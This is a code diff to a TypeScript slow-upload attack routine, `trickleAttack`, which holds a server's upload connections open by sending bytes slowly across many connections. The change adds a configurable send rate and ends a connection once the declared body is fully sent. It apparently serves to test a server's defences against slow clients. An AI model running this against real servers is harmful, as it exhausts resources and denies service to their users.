@@ -16,8 +16,10 @@ export interface AttackOptions {
   addresses: string[]
   /** Connections held from each address. */
   perAddress: number
-  /** One byte is sent every this many ms after the body's first part. */
+  /** `bytes` are sent every this many ms after the body's first part. */
   everyMs: number
+  /** Bytes sent each `everyMs`: 1 (the default) trickles; more keeps a pace, e.g. 1200 every 100 ms is 12 000 B/s. */
+  bytes?: number
   /** A connection refused (503, 429) or failed tries again after this long; answered 408, it reconnects at once. */
   retryMs: number
   /** The body size declared in Content-Length: within the server's limit, and far more than is ever sent. */
@@ -36,12 +38,13 @@ export interface Attack {
 }
 
 /**
- * `perAddress` connections from each address, each sending the head of a multipart upload and then a byte every
- * `everyMs`, and reconnecting as soon as it is answered: the attack of a client that holds upload places for almost
- * no traffic.
+ * `perAddress` connections from each address, each sending the head of a multipart upload and then `bytes` every
+ * `everyMs` (never past the declared size: a body all sent then ends), and reconnecting as soon as it is
+ * answered: the attack of a client that holds upload places for almost no traffic, or at just the pace the server
+ * asks for.
  */
 export function trickleAttack(options: AttackOptions): Attack {
-  const {url, addresses, perAddress, everyMs, retryMs, declaredBytes = 1024 * 1024} = options
+  const {url, addresses, perAddress, everyMs, retryMs, bytes = 1, declaredBytes = 1024 * 1024} = options
   const answers: Record<string, number> = {}
   const live = new Set<ClientRequest>()
   const tickers = new Set<NodeJS.Timeout>()
@@ -77,9 +80,16 @@ export function trickleAttack(options: AttackOptions): Attack {
     open++
     req.write(HEAD)
     sent += HEAD.length
+    let left = declaredBytes - HEAD.length
     ticker = setInterval(() => {
-      req.write('A')
-      sent++
+      const n = Math.min(bytes, left)
+      left -= n
+      sent += n
+      if (left > 0) req.write(Buffer.alloc(n, 'A'))
+      else {
+        clearInterval(ticker)
+        req.end(Buffer.alloc(n, 'A'))
+      }
     }, everyMs)
     tickers.add(ticker)
   }
